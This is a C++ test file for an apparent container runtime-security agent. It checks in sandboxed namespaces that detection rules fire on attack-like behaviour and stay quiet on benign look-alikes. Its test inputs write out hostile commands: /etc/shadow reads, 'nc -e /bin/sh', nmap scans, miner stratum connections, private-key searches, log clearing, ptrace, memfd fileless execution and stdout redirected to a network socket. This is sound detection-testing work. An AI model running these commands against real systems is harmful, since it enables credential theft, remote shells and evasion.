// The default policies against real processes: each scenario runs a shell
// script under `sidetrace-agent --events-out`, then evaluates the captured
// events with the policies, as the agent and `sidetrace-rules eval` do.
// Writes to system folders happen inside a private mount namespace on a
// tmpfs; connections inside a private network namespace where 203.0.113.10
// and 198.51.100.20 live on lo, and pool names come from a private hosts file.
//
// A terminal comes from a pty the test opens (python's pty.fork runs the
// agent as the session leader of a new pty).
#include <catch2/catch.hpp>

#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <set>

#include "common/event/event_json.h"
#include "common/rules/rules.h"

using namespace sidetrace;

namespace {

std::string Agent() { return std::string(getenv("SIDETRACE_BUILD_DIR")) + "/agent/sidetrace-agent"; }

struct Scratch {
  std::filesystem::path dir;
  Scratch() {
    char t[] = "/tmp/rules_agent_XXXXXX";
    REQUIRE(mkdtemp(t));
    dir = t;
    std::ofstream(dir / "hosts") << "127.0.0.1 localhost\n198.51.100.20 xmr.pool.minergate.com\n";
    // Stand-ins named like the tools the rules look for.
    for (const char* name : {"nc", "nmap", "xmrig", "insmod", "lsmod", "ping"}) {
      std::filesystem::copy_file("/bin/true", dir / name);
    }
    std::filesystem::copy_file("/bin/dash", dir / "nginx");
  }
  ~Scratch() { std::filesystem::remove_all(dir); }
};

Scratch& S() {
  static Scratch s;
  return s;
}

const rules::Engine& Policies() {
  static std::unique_ptr<rules::Engine> engine = [] {
    rules::LoadOptions o;
    o.resolve = rules::ResolveMode::kHosts;
    o.hosts_path = (S().dir / "hosts").string();
    auto e = rules::Engine::LoadFiles({std::string(getenv("SIDETRACE_SOURCE_DIR")) + "/policies"}, o, nullptr);
    REQUIRE(e.ok());
    return std::move(e).value();
  }();
  return *engine;
}

// Runs `script` (a sh script) under the agent, itself started by the sh
// script `wrap` ("$@" is the agent command line), and returns the rules the
// captured events fire.
std::set<std::string> Fire(const std::string& script, const std::string& wrap = "exec \"$@\"") {
  std::string events = (S().dir / "events.jsonl").string();
  std::filesystem::remove(events);
  std::ofstream(S().dir / "script.sh") << script << "\n";
  std::ofstream(S().dir / "wrap.sh") << wrap << "\n";
  std::string cmd = "cd " + S().dir.string() + " && export T=" + S().dir.string() + " && timeout 60 sh wrap.sh " +
                    Agent() + " --events-out " + events + " -- /bin/sh " + (S().dir / "script.sh").string() +
                    " >/dev/null 2>" + (S().dir / "stderr").string();
  INFO(script);
  int st = std::system(cmd.c_str());
  CHECK(WIFEXITED(st));
  std::set<std::string> fired;
  std::ifstream in(events);
  std::string line;
  int n = 0;
  while (std::getline(in, line)) {
    auto j = nlohmann::json::parse(line, nullptr, false);
    REQUIRE_FALSE(j.is_discarded());
    auto ev = event::EventFromJson(j);
    REQUIRE(ev.ok());
    ++n;
    Policies().Evaluate(ev->event, [&](const rules::Rule& r) { fired.insert(r.name); });
  }
  CHECK(n > 0);
  // As deployed (alerts only): results and exec images are judged at entry
  // and paid for only where a rule may match; the agent must raise exactly
  // the alerts the complete record shows.
  std::string alerts = (S().dir / "alerts.jsonl").string();
  std::filesystem::remove(alerts);
  cmd = "cd " + S().dir.string() + " && export T=" + S().dir.string() + " && timeout 60 sh wrap.sh " + Agent() +
        " --alerts-out " + alerts + " -- /bin/sh " + (S().dir / "script.sh").string() + " >/dev/null 2>" +
        (S().dir / "stderr").string();
  st = std::system(cmd.c_str());
  CHECK(WIFEXITED(st));
  std::set<std::string> alerted;
  std::ifstream ain(alerts);
  while (std::getline(ain, line)) {
    auto j = nlohmann::json::parse(line, nullptr, false);
    REQUIRE_FALSE(j.is_discarded());
    alerted.insert(j["rule"].get<std::string>());
  }
  CHECK(alerted == fired);
  return fired;
}

// Private mounts: tmpfs over the given folders, so writes stay in the test.
std::string Mounts(const std::string& dirs) {
  return "exec unshare --mount sh -c 'for d in " + dirs + "; do mount -t tmpfs t $d; done; exec \"$@\"' sh \"$@\"";
}

// A private network: the "public" addresses on lo, listeners on them, and a
// private /etc/hosts.
std::string Net() {
  return "exec unshare --net --mount sh -c 'ip link set lo up && ip addr add 203.0.113.10/32 dev lo && "
         "ip addr add 198.51.100.20/32 dev lo && mount --bind $T/hosts /etc/hosts && "
         "(timeout 30 python3 $T/listen.py &) && exec \"$@\"' sh \"$@\"";
}

void WriteListener() {
  std::ofstream(S().dir / "listen.py") <<
      "import socket, select, time\n"
      "socks = []\n"
      "for addr in [('203.0.113.10', 3333), ('203.0.113.10', 8443), ('198.51.100.20', 45700)]:\n"
      "    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
      "    s.bind(addr); s.listen(16); socks.append(s)\n"
      "end = time.time() + 25\n"
      "while time.time() < end:\n"
      "    r, _, _ = select.select(socks, [], [], 0.5)\n"
      "    for s in r: s.accept()[0].close()\n";
  // Connects, retrying while the listener starts (bounded).
  std::ofstream(S().dir / "connect.py") <<
      "import socket, sys, time\n"
      "for i in range(200):\n"
      "    try:\n"
      "        socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5).close(); sys.exit(0)\n"
      "    except OSError:\n"
      "        time.sleep(0.05)\n"
      "sys.exit(1)\n";
}

bool Has(const std::set<std::string>& s, const std::string& rule) { return s.count(rule) > 0; }

// Whether the last Fire captured an event of `type` with evt.res `res` whose
// process is named `proc`: a benign case is only meaningful when the rule
// saw the event it did not fire on.
bool Captured(const std::string& type, int64_t res, const std::string& proc) {
  std::ifstream in(S().dir / "events.jsonl");
  std::string line;
  while (std::getline(in, line)) {
    auto j = nlohmann::json::parse(line, nullptr, false);
    if (j.value("evt.type", "") == type && j.value("evt.res", int64_t{-1}) == res && j.value("proc.name", "") == proc) {
      return true;
    }
  }
  return false;
}

// Runs "$@" as the session leader of a new pty, draining its output. (The
// script is not named pty.py: it would shadow the module it imports.)
std::string OnPty() {
  std::ofstream(S().dir / "on_pty.py") << "import os, pty, sys\n"
                                       "pid, fd = pty.fork()\n"
                                       "if pid == 0:\n"
                                       "    os.execvp(sys.argv[1], sys.argv[1:])\n"
                                       "while True:\n"
                                       "    try:\n"
                                       "        if not os.read(fd, 4096): break\n"
                                       "    except OSError:\n"
                                       "        break\n"
                                       "sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))\n";
  return "exec python3 $T/on_pty.py \"$@\"";
}

}  // namespace

TEST_CASE("demo: a web app reading /etc/shadow, then curl to a miner", "[rules][agent]") {
  WriteListener();
  auto fired = Fire("python3 -c 'open(\"/etc/shadow\").read()' && cat /etc/shadow >/dev/null");
  CHECK(Has(fired, "Read sensitive file untrusted"));
  CHECK_FALSE(Has(Fire("cat /etc/hostname /etc/passwd >/dev/null"), "Read sensitive file untrusted"));

  auto miner = Fire("python3 $T/connect.py 203.0.113.10 3333 && curl -s -m 5 http://203.0.113.10:3333/ || true", Net());
  CHECK(Has(miner, "Detect outbound connections to common miner pool ports"));
  auto by_name = Fire("python3 $T/connect.py xmr.pool.minergate.com 45700", Net());
  CHECK(Has(by_name, "Detect outbound connections to common miner pool ports"));
  auto benign = Fire("python3 $T/connect.py 203.0.113.10 8443", Net());
  CHECK_FALSE(Has(benign, "Detect outbound connections to common miner pool ports"));
}

TEST_CASE("file rules on real processes", "[rules][agent]") {
  auto etc = Fire("touch /etc/rules-test && echo x > /root/payload && cp /bin/true /usr/local/bin/rules-x && "
                  ": > /var/log/auth.log",
                  Mounts("/etc /root /usr/local/bin /var/log"));
  CHECK(Has(etc, "Write below etc"));
  CHECK(Has(etc, "Write below root"));
  CHECK(Has(etc, "Write below binary dir"));
  CHECK(Has(etc, "Clear log activities"));
  auto benign = Fire("touch $T/x && echo x >> /var/log/auth.log && echo x > /root/.bash_history && cp /bin/true $T/y",
                     Mounts("/var/log /root"));
  for (const char* r : {"Write below etc", "Write below root", "Write below binary dir", "Clear log activities"}) {
    INFO(r);
    CHECK_FALSE(Has(benign, r));
  }

  auto links = Fire("ln -s /etc/shadow $T/s; ln /etc/shadow $T/h; true");
  CHECK(Has(links, "Create symlink over sensitive files"));
  CHECK(Has(links, "Create hardlink over sensitive files"));
  auto benign_links = Fire("ln -s /etc/hostname $T/s2; ln $T/x $T/h2; true");
  CHECK_FALSE(Has(benign_links, "Create symlink over sensitive files"));
  CHECK_FALSE(Has(benign_links, "Create hardlink over sensitive files"));

  CHECK(Has(Fire("cat /proc/self/environ >/dev/null"), "Read environment variable from /proc files"));
  CHECK_FALSE(Has(Fire("cat /proc/self/status >/dev/null"), "Read environment variable from /proc files"));

  CHECK(Has(Fire("echo x | tee -a $T/.bashrc >/dev/null"), "Modify shell configuration file"));
  CHECK_FALSE(Has(Fire("echo x >> $T/.bashrc"), "Modify shell configuration file"));
}

TEST_CASE("process rules on real processes", "[rules][agent]") {
  CHECK(Has(Fire("$T/nginx -c \"sh -c true\""), "Run shell untrusted"));
  CHECK_FALSE(Has(Fire("sh -c \"sh -c true\""), "Run shell untrusted"));

  CHECK(Has(Fire("apt-get --version >/dev/null"), "Launch package management process in container"));
  CHECK_FALSE(Has(Fire("ls >/dev/null"), "Launch package management process in container"));

  CHECK(Has(Fire("$T/nc -e /bin/sh 127.0.0.1 9"), "Netcat remote code execution in container"));
  CHECK_FALSE(Has(Fire("$T/nc -z 127.0.0.1 9"), "Netcat remote code execution in container"));

  CHECK(Has(Fire("$T/nmap -sS 127.0.0.1"), "Launch suspicious network tool in container"));
  CHECK_FALSE(Has(Fire("$T/ping -c1 127.0.0.1"), "Launch suspicious network tool in container"));

  CHECK(Has(Fire("grep -r \"BEGIN RSA PRIVATE\" $T >/dev/null; true"), "Search private keys or passwords"));
  CHECK_FALSE(Has(Fire("grep -r TODO $T >/dev/null; true"), "Search private keys or passwords"));

  CHECK(Has(Fire("$T/xmrig -o stratum+tcp://pool.example:3333"), "Detect crypto miners using the Stratum protocol"));
  CHECK_FALSE(Has(Fire("$T/xmrig -o https://pool.example/"), "Detect crypto miners using the Stratum protocol"));

  CHECK(Has(Fire("cp /bin/true /dev/shm/rules-x-$$ && /dev/shm/rules-x-$$; rm -f /dev/shm/rules-x-$$"),
            "Execution from /dev/shm"));
  CHECK_FALSE(Has(Fire("ls /dev/shm >/dev/null"), "Execution from /dev/shm"));
  // The cwd clause: a program outside /dev/shm run as ./NAME from there.
  CHECK(Has(Fire("cd /dev/shm && ln -sf /bin/true ./rules-t-$$ && ./rules-t-$$; rm -f /dev/shm/rules-t-$$"),
            "Execution from /dev/shm"));
  // The same clause where only argv[0] is relative: the agent has not read
  // the caller's working directory (a chdir made it stale) when it judges
  // the exec, and must read it before the rule is evaluated.
  CHECK(Has(Fire("cd /dev/shm && python3 -c \"import os; os.execv('/bin/true', ['./fake'])\""),
            "Execution from /dev/shm"));
  CHECK_FALSE(Has(Fire("cd /tmp && python3 -c \"import os; os.execv('/bin/true', ['./fake'])\""),
                  "Execution from /dev/shm"));

  CHECK(Has(Fire("$T/insmod /nonexistent.ko"), "Linux kernel module injection"));
  CHECK_FALSE(Has(Fire("$T/lsmod"), "Linux kernel module injection"));

  // Attach to the parent shell, wait for its stop, detach (where the agent
  // does not ptrace the shell itself, the attach succeeds, as natively).
  CHECK(Has(Fire("python3 -c \"import ctypes,os; l = ctypes.CDLL(None); p = os.getppid(); "
                 "l.ptrace(16, p, 0, 0) == 0 and os.waitpid(p, 0x40000000); l.ptrace(17, p, 0, 0)\""),
            "PTRACE attached to process"));
  CHECK_FALSE(Has(Fire("python3 -c \"import ctypes; ctypes.CDLL(None).getpid()\""), "PTRACE attached to process"));

  std::ofstream(S().dir / "memfd.py") << "import os\n"
                                           "fd = os.memfd_create(\"payload\", 0)\n"
                                           "os.write(fd, open(\"/bin/true\", \"rb\").read())\n"
                                           "os.execv(\"/proc/self/fd/%d\" % fd, [\"payload\"])\n";
  CHECK(Has(Fire("python3 $T/memfd.py"), "Fileless execution via memfd_create"));
  CHECK_FALSE(Has(Fire("cp /bin/true $T/payload && $T/payload"), "Fileless execution via memfd_create"));
}

TEST_CASE("terminal and stream redirection rules on real processes", "[rules][agent]") {
  // The workload (a shell, the container's entrypoint) on a terminal, then
  // the same shell in a new session without one.
  CHECK(Has(Fire("true", OnPty()), "Terminal shell in container"));
  CHECK_FALSE(Has(Fire("true", "exec setsid -w \"$@\""), "Terminal shell in container"));
  CHECK(Captured("execve", 0, "sh"));

  WriteListener();
  std::ofstream(S().dir / "redirect.py") << "import os, socket, sys, time\n"
                                            "for i in range(200):\n"
                                            "    try:\n"
                                            "        s = socket.create_connection(('203.0.113.10', 8443), timeout=5)\n"
                                            "        break\n"
                                            "    except OSError:\n"
                                            "        time.sleep(0.05)\n"
                                            "else:\n"
                                            "    sys.exit(1)\n"
                                            "os.dup2(s.fileno(), 1)\n";
  CHECK(Has(Fire("python3 $T/redirect.py", Net()), "Redirect STDOUT/STDIN to network connection in container"));
  CHECK_FALSE(Has(Fire("python3 -c 'import os; os.dup2(os.open(\"/etc/hostname\", os.O_RDONLY), 1)'"),
                  "Redirect STDOUT/STDIN to network connection in container"));
  CHECK(Captured("dup2", 1, "python3"));
}

TEST_CASE("drop and execute on a real overlayfs", "[rules][agent]") {
  // An image-like overlay in a private mount namespace: `base` is in the
  // lower layer (the image), anything written through the mount lands in
  // the upper one.
  std::string overlay =
      "exec unshare --mount sh -c 'rm -rf $T/ov && mkdir -p $T/ov/lower $T/ov/upper $T/ov/work $T/ov/merged && "
      "cp /bin/true $T/ov/lower/base && mount -t overlay ov -o "
      "lowerdir=$T/ov/lower,upperdir=$T/ov/upper,workdir=$T/ov/work $T/ov/merged && exec \"$@\"' sh \"$@\"";
  CHECK(Has(Fire("cp /bin/true $T/ov/merged/dropped && $T/ov/merged/dropped", overlay),
            "Drop and execute new binary in container"));
  CHECK_FALSE(Has(Fire("$T/ov/merged/base", overlay), "Drop and execute new binary in container"));
  CHECK(Captured("execve", 0, "base"));
}
